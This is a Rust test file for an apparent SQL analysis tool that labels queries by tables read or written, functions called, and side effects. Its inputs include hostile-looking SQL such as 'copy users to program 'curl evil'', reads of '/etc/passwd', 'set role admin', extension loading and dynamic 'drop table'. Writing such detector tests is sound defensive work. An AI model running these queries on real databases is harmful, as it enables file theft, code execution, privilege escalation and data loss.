//! Functions, files, programs, settings: what a query does besides reading and writing tables.

use super::check;

#[test]
fn functions_that_do_more_than_compute() {
    check(&[
        ("postgres", "select lower(a), count(*) from t", "select reads t columns a calls count,lower", "these only compute"),
        ("postgres", "select pg_read_file('/etc/passwd')", "select calls pg_read_file effects", "reads a file of the server"),
        ("postgres", "select lo_export(1, '/tmp/x')", "select calls lo_export effects", "writes one"),
        ("postgres", "select \"pg_read_file\"('x')", "select calls pg_read_file effects", "quoted"),
        ("postgres", "select pg_catalog.pg_read_file('x')", "select calls pg_catalog.pg_read_file effects", "with its schema"),
        ("postgres", "select pg_catalog.lower('x')", "select calls pg_catalog.lower", "what is built in may have it"),
        ("postgres", "select evil.lower('x')", "select calls evil.lower effects", "another schema's `lower` is another function"),
        ("postgres", "select query_to_xml('select * from secrets', true, true, '')", "select calls query_to_xml effects", "runs a text"),
        ("postgres", "select nextval('s')", "select calls nextval effects", "moves a sequence"),
        ("snowflake", "select s.nextval", "select columns nextval,s effects", "likewise, written as a column"),
        ("postgres", "select set_config('role', 'admin', false)", "select calls set_config effects", "a setting by a function"),
        ("postgres", "select pg_sleep(100)", "select calls pg_sleep effects", ""),
        ("mysql", "select load_file('/etc/passwd')", "select calls load_file effects", ""),
        ("sqlite", "select load_extension('x')", "select calls load_extension effects", "runs code"),
        ("postgres", "select a operator(evil.+) b from t", "select reads t columns a,b effects", "an operator is a function"),
        ("postgres", "select 'x'::evil", "select effects", "a type's conversion is one too"),
        ("postgres", "select 'x'::regclass, 'y'::jsonb", "select", "those are known"),
        ("mysql", "select @a := password from users", "select reads users columns @a,password effects", "sets a variable"),
        ("postgres", "select 1 from t order by evil(a)", "select reads t columns a calls evil effects", "in any clause"),
        ("postgres", "select sum(a) filter (where evil(b)) over (order by evil2(c)) from t", "select reads t columns a,b,c calls evil,evil2,sum effects", ""),
    ]);
}

#[test]
fn functions_that_stand_for_a_table_are_read() {
    check(&[
        ("postgres", "select * from generate_series(1, 10)", "select columns * calls generate_series", "only computes"),
        ("postgres", "select * from dblink('x', 'select 1') as t(a int)", "select reads dblink columns * calls dblink effects", "another server"),
        ("duckdb", "select * from read_csv('/etc/passwd')", "select reads read_csv columns * calls read_csv effects", "a file"),
        ("duckdb", "select * from '/etc/passwd'", "select reads \"/etc/passwd\" columns * effects", "a file by its name alone"),
        ("duckdb", "select * from \"x.parquet\"", "select reads \"x.parquet\" columns * effects", "likewise"),
        ("mssql", "select * from openrowset('a', 'b', 'c')", "select reads openrowset columns * calls openrowset effects", ""),
        ("clickhouse", "select * from url('http://x', CSV)", "select reads url columns *,csv calls url effects", ""),
        ("snowflake", "select * from @stage", "select reads \"@stage\" columns * effects", "files"),
        ("snowflake", "select * from identifier('users')", "opaque", "a table by a text"),
        ("snowflake", "select * from table('users')", "opaque", "likewise"),
    ]);
}

#[test]
fn statements_of_other_kinds_have_effects() {
    check(&[
        ("postgres", "copy users to program 'curl evil'", "copy reads users columns * effects", "runs a program"),
        ("postgres", "copy users from '/tmp/x'", "copy writes users columns * effects", "reads a file"),
        ("postgres", "copy users (a) to stdout", "copy reads users columns a", "goes to the client alone"),
        ("postgres", "copy (select a from users) to '/tmp/x'", "copy reads users columns a effects", ""),
        ("mysql", "select * into outfile '/tmp/x' from users", "opaque", "not understood"),
        ("mysql", "load data infile '/etc/passwd' into table t", "opaque", "not understood"),
        ("sqlite", "attach database '/tmp/x.db' as x", "other effects", "a file"),
        ("postgres", "vacuum", "other effects", ""),
        ("postgres", "call p(1)", "call calls p effects", ""),
        ("mssql", "exec sp_executesql N'drop table x'", "call effects", ""),
        ("postgres", "execute p", "call effects", ""),
        ("postgres", "prepare p as delete from users", "other reads users writes users effects", "it runs later"),
        ("postgres", "do $$ begin delete from users; end $$", "opaque", "not understood"),
        ("bigquery", "begin delete from users where true; end", "other reads users writes users effects", "a block"),
        ("bigquery", "execute immediate 'drop table x'", "call effects", "a text"),
        ("postgres", "set role admin", "set effects", "other rights"),
        ("postgres", "set session authorization admin", "set effects", ""),
        ("postgres", "set search_path = evil", "set columns evil effects", "names mean other tables"),
        ("mysql", "use evil", "set effects", "likewise"),
        ("postgres", "lock table users", "other reads users writes users effects", "what comes behind may do either"),
        ("postgres", "select * from users for update", "select reads users columns * effects", "a lock"),
        ("postgres", "grant select on users to bob", "grant effects", ""),
        ("postgres", "begin", "transaction", ""),
        ("postgres", "commit", "transaction", ""),
        ("mysql", "show tables", "show", ""),
        ("mysql", "show create table users", "show reads users", ""),
        ("mysql", "show columns from users", "show reads users", ""),
        ("postgres", "notify x", "other effects", ""),
    ]);
}
